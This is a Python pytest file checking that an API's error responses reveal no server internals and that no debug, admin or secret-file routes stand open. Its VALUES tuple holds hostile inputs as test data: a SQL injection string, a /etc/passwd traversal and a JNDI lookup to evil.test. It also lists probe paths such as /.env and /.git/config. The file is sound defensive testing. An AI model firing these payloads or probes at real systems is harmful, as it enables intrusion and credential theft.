"""Errors tell nothing of how the server is made, and no door stands open beside the API."""

import json
import re
from pathlib import Path
from typing import Any, Final

import pytest

from tests.support.asgi import Answer, call
from tests.support.every_endpoint import READS, authorization_of, fields_of, full_body, path_of
from tests.support.scenario import Scenario
from tests.support.served import served
from vestibule.api.endpoint import Endpoint
from vestibule.api.groups import endpoints

INSIDES: Final = re.compile(
    r"Traceback|File \"|\bline \d+, in |\.py\b|site-packages|/src/|/usr/|/home/|/tmp/"
    r"|\bSELECT\b|\bINSERT\b|\bUPDATE\b|\bDELETE FROM\b|constraint|sqlite|postgres|asyncpg"
    r"|msgspec|lxml|libxml|joserfc|cryptography|openssl|uvicorn|starlette|aiohttp|jinja|Python/"
    r"| object at 0x|<class |Error\(",
    re.IGNORECASE,
)
TOLD_BY_HEADERS: Final = {"server", "x-powered-by", "via", "x-runtime", "x-aspnet-version"}
VALUES: Final[tuple[Any, ...]] = (
    "' OR 1=1; --",
    "\0",
    "../../etc/passwd",
    "{0.__class__} %s ${jndi:ldap://evil.test}",
    "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----",
    "x" * 5_000,
    "\ud800",
    -(2**70),
    1e308,
    [],
    {"a": {"b": [None]}},
    None,
    True,
)
BESIDE: Final = (
    *("/health", "/healthz", "/livez", "/readyz", "/ready", "/status", "/ping", "/version"),
    *(
        "/metrics",
        "/v1/metrics",
        "/stats",
        "/debug",
        "/debug/pprof",
        "/debug/vars",
        "/server-status",
    ),
    *("/docs", "/redoc", "/swagger", "/openapi.json", "/v1/openapi.json", "/.well-known/openapi"),
    *(
        "/admin",
        "/console",
        "/dashboard",
        "/graphql",
        "/dev",
        "/dev/mailbox",
        "/dev/app",
        "/dev/idp",
        "/dev/clock",
        "/dev/sign-ins",
    ),
    *("/.env", "/.git/config", "/config", "/settings", "/data/master.key", "/robots.txt", "/"),
)


def inside(answer: Answer) -> list[str]:
    """Return what an answer tells of the server's inside."""
    told = INSIDES.findall(answer.text)
    return [*told, *(TOLD_BY_HEADERS & answer.headers.keys())]


@pytest.mark.case("AD-20")
@pytest.mark.parametrize("endpoint", endpoints(), ids=lambda item: item.operation_id)
async def test_no_refusal_tells_how_the_server_is_made(
    scenario: Scenario, endpoint: Endpoint
) -> None:
    organization = await scenario.organization()
    path = path_of(endpoint, {"organization_id": organization["organization_id"]})
    sent = {**authorization_of(endpoint, scenario), "content-type": "application/json"}
    names = fields_of(endpoint) if endpoint.method not in READS else []
    bodies = [json.dumps({**full_body(endpoint), n: v}) for n in names for v in VALUES]
    for body in [*(each.encode() for each in bodies), b"{", b"[]", b'"\xff"', b"{}", b"nul"]:
        answer = await call(scenario.app, endpoint.method, path, headers=sent, body=body)
        assert answer.status < 500, body
        if answer.status >= 400:
            assert inside(answer) == [], (body, answer.text)
            assert answer.json.keys() == {
                *("status_code", "request_id", "error_type", "error_message", "error_url"),
            }


@pytest.mark.case("AD-20")
@pytest.mark.parametrize(
    "request_line",
    [
        b"GET /nowhere HTTP/1.1\r\nhost: a\r\n\r\n",
        b"GET /v1/b2b/organizations/x HTTP/1.1\r\nhost: a\r\n\r\n",
        b"GET /v1/public/sso/start?a=%ff HTTP/1.1\r\nhost: a\r\n\r\n",
        b"BREW / HTTP/1.1\r\nhost: a\r\n\r\n",
        b"GET / HTTP/9.9\r\nhost: a\r\n\r\n",
        b"GET /\x00 HTTP/1.1\r\nhost: a\r\n\r\n",
        b"POST / HTTP/1.1\r\nhost: a\r\ncontent-length: x\r\n\r\n",
        b"GET / HTTP/1.1\r\nhost: a\r\nexpect: what\r\n\r\n",
    ],
)
async def test_no_line_of_http_names_the_software(scenario: Scenario, request_line: bytes) -> None:
    async with served(scenario.app) as here:
        status, headers, body = await here.ask(request_line)
    assert status >= 400
    assert not TOLD_BY_HEADERS & headers.keys()
    assert not INSIDES.search(body.decode())


@pytest.mark.case("AD-48")
@pytest.mark.parametrize("path", BESIDE)
async def test_nothing_stands_open_beside_the_api(scenario: Scenario, path: str) -> None:
    own = {"authorization": scenario.api.authorization}
    for method in ("GET", "POST"):
        for headers in ({}, own):
            answer = await call(scenario.app, method, path, headers=headers)
            assert (answer.status, answer.json["error_type"]) == (404, "route_not_found")


@pytest.mark.case("AD-48")
async def test_what_counts_tenants_asks_who_is_calling(scenario: Scenario) -> None:
    organization = await scenario.organization("Secret Customer")
    counting = [each for each in endpoints() if each.path.endswith("/metrics")]
    assert len(counting) == 2
    for endpoint in counting:
        path = path_of(endpoint, {"organization_id": organization["organization_id"]})
        answer = await call(scenario.app, "GET", path)
        assert (answer.status, answer.json["error_type"]) == (401, "unauthorized_credentials")
        assert "Secret Customer" not in json.dumps(await scenario.api.good("GET", path))


@pytest.mark.case("AD-48")
async def test_the_page_of_errors_tells_of_no_tenant(scenario: Scenario, tmp_path: Path) -> None:
    before = (await call(scenario.app, "GET", "/errors")).text
    await scenario.organization("Secret Customer")
    assert (await call(scenario.app, "GET", "/errors")).text == before
    assert str(tmp_path.parent) not in before
    assert not re.search(r"Traceback|site-packages|sqlite|asyncpg", before)
